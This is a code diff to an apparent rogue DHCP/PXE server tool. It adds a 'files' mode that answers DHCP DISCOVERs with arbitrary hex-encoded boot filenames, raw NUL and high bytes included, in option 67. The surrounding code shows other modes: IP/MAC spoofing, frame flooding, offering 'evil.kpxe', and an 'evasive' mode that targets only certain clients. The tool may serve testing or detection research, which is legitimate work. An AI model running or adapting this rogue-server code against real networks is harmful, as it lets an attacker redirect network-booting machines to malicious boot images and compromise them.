@@ -13,6 +13,8 @@
                          MACs; its own offer (evil.kpxe) to every DISCOVER
         spoof N IP MAC   on the first DISCOVER: N distinct offers spoofing IP/MAC, then its own
         urls URL...      answers each DISCOVER with the next URL as option 67
+        files HEX...     answers each DISCOVER with the next name (hex: NUL and high bytes
+                         as they are) as option 67
         evasive          answers only DISCOVERs with secs >= 5, from a universally
                          administered MAC, for arch 9 (EFI BC), from source port 6767
         giaddr IP        offers with server identifier IP and giaddr set (a "relay")
@@ -250,7 +252,8 @@ def rogue(interface: str, mode: str, *args: str) -> None:
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * 1024 * 1024)
     mac, ip = _own(interface)
     junk = _junk_frames(int(args[0])) if mode == "flood" else []
-    urls = list(args) if mode == "urls" else []
+    urls = [a.encode() for a in args] if mode == "urls" else \
+        [bytes.fromhex(a) for a in args] if mode == "files" else []
     answered = 0
     last_burst = 0.0
     _ready()
@@ -311,8 +314,8 @@ def rogue(interface: str, mode: str, *args: str) -> None:
                                  src_mac=spoof_mac, src_ip=args[1]))
             time.sleep(0.05)
             sock.send(_offer(req, server_ip=ip, file=b"evil.kpxe", src_mac=mac, src_ip=ip))
-        elif mode == "urls":
-            url = urls[answered % len(urls)].encode()
+        elif mode in ("urls", "files"):
+            url = urls[answered % len(urls)]
             sock.send(_offer(req, server_ip=ip, file=url, src_mac=mac, src_ip=ip))
         elif mode == "evasive":
             if req.secs >= 5 and not req.chaddr[0] & 0x02 and req.client_arch == 9:
